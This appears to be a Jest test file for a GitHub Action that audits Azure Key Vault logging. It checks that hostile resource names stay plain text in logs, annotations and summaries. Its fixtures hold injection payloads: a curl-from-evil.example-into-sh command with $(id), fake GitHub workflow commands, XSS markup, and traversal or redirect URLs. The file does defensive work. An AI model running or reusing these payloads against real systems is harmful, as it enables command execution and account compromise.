// Names and texts that try to be commands, markup or shell: they stay text. Golden files show all that people see.
import { beforeAll, describe, expect, test } from '@jest/globals';
import { marked } from 'marked';
import type { EstateInput } from '../../emulator/estate.ts';
import { expectGolden } from '../golden.ts';
import {
  good,
  reportOf,
  subscription,
  subscriptionOf,
  tryOut,
  visibleLog,
  type SettingInput,
  type Trial,
  type VaultInput,
} from './trial.ts';

const rtl = '\u202Egpj.tluav\u202C';
const commands =
  '\n::error title=owned::owned\r\n::set-output name=result::pass\r::add-mask::a\n##[error]owned\n##[group]owned';
const markup =
  '<img src=x onerror=alert(1)>|`code`|**bold**|[link](javascript:alert(1))|<!--|</details></table>@octocat #1';
const shell = `';curl https://evil.example|sh;'$(id)\`id\``;
const everything = `${commands}${markup}${shell}${rtl}\u0000\u001b[31m\u2028\ud800`;

/** Azure allows none of these; an answer can hold them all the same. */
const names = [
  '::error::owned',
  '::warning::owned',
  'kv|pipe||',
  'kv`tick`',
  '<img-src=x-onerror=alert(1)>',
  '<details><summary>',
  '<!--',
  `kv-${rtl}`,
  'kv-\u200bzero\u200dwidth',
  '@octocat',
  '**bold**_it_~~gone~~',
  '[link](javascript:alert(1))',
  '![img](https:evil.example)',
  "';id;'",
  '$(id)`id`',
  '--subscription=evil',
  'кv-cyrillic',
  '&lt;b&gt;&vert;',
  'kv-\ud800-half',
];

/** These would change the URL that they are part of. */
const unsafe = ['##[error]owned', '../evil', 'a?b', 'a%2fb', 'a\\b', 'a b', 'a\n::error::owned'];

const settings: SettingInput[] = [
  { name: everything, on: [everything, markup], workspace: 'law' },
  { name: `b ${shell}`, on: ['audit'] },
];
const toHostile = (id: string, name: string): VaultInput => ({
  name,
  settings: [{ name, properties: { workspaceId: id, logs: [{ categoryGroup: 'audit', enabled: true }] } }],
});

const estate: EstateInput = {
  subscriptions: [
    {
      id: subscription(1),
      displayName: `Payments ${everything}`,
      state: 'Warned',
      vaults: [
        ...names.map((name): VaultInput => ({
          name,
          resourceGroup: `rg ${names[0] ?? ''}`,
          tags: { [everything]: everything },
        })),
        { name: 'kv-settings', settings },
        { name: 'kv-group', resourceGroup: `rg\n::error::owned\n| a | b | ${rtl}`, location: everything },
        { name: 'kv-error', fault: { kind: 'status', status: 403, code: everything, message: everything } },
        { name: 'kv-flat', fault: { kind: 'status', status: 409, flat: true, code: '::error::', message: markup } },
        { name: 'kv-html', fault: { kind: 'non-json', status: 404 } },
        { name: 'kv-gone', gone: true },
        { name: 'kv-good', settings: [{ ...good, name: everything, off: ['AuditEvent'], on: ['allLogs'] }] },
        toHostile('https://evil.example/subscriptions/x', 'kv-to-url'),
        toHostile('//evil.example/x', 'kv-to-host'),
        toHostile('@evil.example/x', 'kv-to-user'),
        toHostile(`/subscriptions/${subscription(1)}/../../evil?x=1#${markup}`, 'kv-to-dots'),
        toHostile(`/subscriptions/x/${commands}`, 'kv-to-commands'),
        toHostile('/subscriptions/\ud800', 'kv-to-half'),
      ],
    },
    {
      id: subscription(2),
      faults: {
        subscription: {
          kind: 'body',
          body: {
            subscriptionId: everything,
            displayName: commands,
            tenantId: `x/#"><img>${commands}`,
            state: everything,
          },
        },
        permissions: { kind: 'status', status: 500, retryAfter: 90, code: commands, message: everything },
      },
      vaults: [{ name: 'kv-two' }],
    },
    { id: subscription(3), displayName: 'hash', vaults: [...unsafe.map((name) => ({ name })), { name: 'kv-beside' }] },
    {
      id: subscription(4),
      displayName: 'link',
      faults: { vaults: { kind: 'body', body: { value: [], nextLink: `https://evil.example/${everything}` } } },
    },
  ],
};

/** What differs from run to run. */
function steady(text: string): string {
  return text
    .replaceAll(/\/\S*?\/_temp\//g, '/RUNNER_TEMP/')
    .replaceAll(/^<sub>\d+ subscriptions.*<\/sub>$/gm, '<sub>(the facts of the run)</sub>');
}

let trial: Trial;
beforeAll(async () => {
  const ids = estate.subscriptions?.map(({ id }) => id).join(',') ?? '';
  trial = await tryOut({ estate, inputs: { 'subscription-id': ids } });
});

describe('hostile names', () => {
  test('the log', () => {
    const lines = visibleLog(trial).split('\n');
    expectGolden('dist/hostile.log.txt', steady(lines.filter((line) => !line.startsWith('::')).join('\n')));
  });

  test('the annotations', () => {
    const shown = trial.annotations.map(({ level, title, message }) => `${level}: ${title}\n${message}\n`);
    expectGolden('dist/hostile.annotations.txt', steady(shown.join('\n')));
  });

  test('the summary', () => {
    expectGolden('dist/hostile.summary.md', steady(trial.summary));
  });

  test('the commands of the run are only ours', () => {
    const ours = trial.commands.filter(({ name }) => name !== 'debug' && name !== 'add-mask');
    expect(ours.filter(({ name }) => name === 'group').map(({ data }) => data)).toEqual([
      'Read the configuration',
      'Sign in to Azure',
      'Read the diagnostic settings',
      'Findings',
    ]);
    expect(ours.filter(({ name }) => name === 'error').length).toBe(10);
    expect(ours.some(({ data, properties }) => data === 'owned' || properties['title'] === 'owned')).toBe(false);
    expect(trial.masks.length).toBe(2);
    // Every line that the runner could take for a command is one that we wrote.
    const lines = trial.stdout
      .split(/\r\n|\r|\n/)
      .filter((line) => line.includes('##[') || line.trimStart().startsWith('::'));
    expect(lines.length).toBe(trial.commands.length);
    expect(trial.outputs['result']).toBe('fail');
    expect(Object.keys(trial.outputs).some((name) => !/^[a-z-]+$/.test(name))).toBe(false);
  });

  test('no line of the log begins with what somebody else wrote', () => {
    const own =
      /^(?:$|No configuration file|Signed in|GitHub's token|🟥|🟨|✅|❌|⚠️|Report: |Subscription |\/subscriptions\/|The |::(?:error|warning) )/u;
    expect(
      visibleLog(trial)
        .split('\n')
        .filter((line) => !own.test(line)),
    ).toEqual([]);
    expect(visibleLog(trial)).not.toMatch(
      /[\u0000-\u0008\u000b-\u001f\u007f\u200b-\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/,
    );
  });

  test('the summary is no other page than ours', () => {
    const page = marked.parse(trial.summary, { async: false });
    const tags = new Set([...page.matchAll(/<([a-z][a-z0-9]*)/gi)].map(([, tag]) => tag?.toLowerCase()));
    const known = [
      'h2',
      'h3',
      'p',
      'table',
      'thead',
      'tbody',
      'tr',
      'th',
      'td',
      'a',
      'br',
      'sub',
      'b',
      'code',
      'pre',
      'details',
      'summary',
      'ul',
      'li',
    ];
    expect([...tags].filter((tag) => !known.includes(tag ?? ''))).toEqual([]);
    const links = [...page.matchAll(/href="([^"]*)"/g)].map(([, link]) => link ?? '');
    expect(
      links.filter(
        (link) =>
          !/^https:\/\/(?:portal\.azure\.com\/#@|github\.com\/(?:octo-org\/payments|owner\/keyvault-diagnostics-audit)\/)/.test(
            link,
          ),
      ),
    ).toEqual([]);
    const columns = [...page.matchAll(/<tr>.*?<\/tr>/gs)].map(([row]) => (row.match(/<t[hd]/g) ?? []).length);
    expect(new Set(columns)).toEqual(new Set([3, 4]));
    expect(trial.summary).not.toMatch(/[\u0000\u001b\u2028\u202e\u200b\u200d]/);
  });

  test('nothing was sent to a host that an answer named', () => {
    expect(trial.refusals).toEqual([]);
    expect(trial.requests.some(({ host }) => host.includes('evil'))).toBe(false);
  });

  test('names that no URL can hold safely break their list off, and say so', () => {
    expect(subscriptionOf(trial, subscription(3)).status).toBe('partial');
    expect(subscriptionOf(trial, subscription(4)).status).toBe('partial');
    // Resource Manager's own list names it too; it is not believed either.
    expect(reportOf(trial).resources.some(({ name }) => name.includes('##') || name === 'a')).toBe(false);
  });

  test('the report has the names as Azure sent them', () => {
    const found = reportOf(trial).resources.map(({ name }) => name);
    for (const name of names.filter((one) => one.isWellFormed())) expect(found).toContain(name);
    expect(reportOf(trial).resources.find(({ name }) => name === 'kv-error')?.detail).toContain(
      '::error title=owned::owned',
    );
  });
});
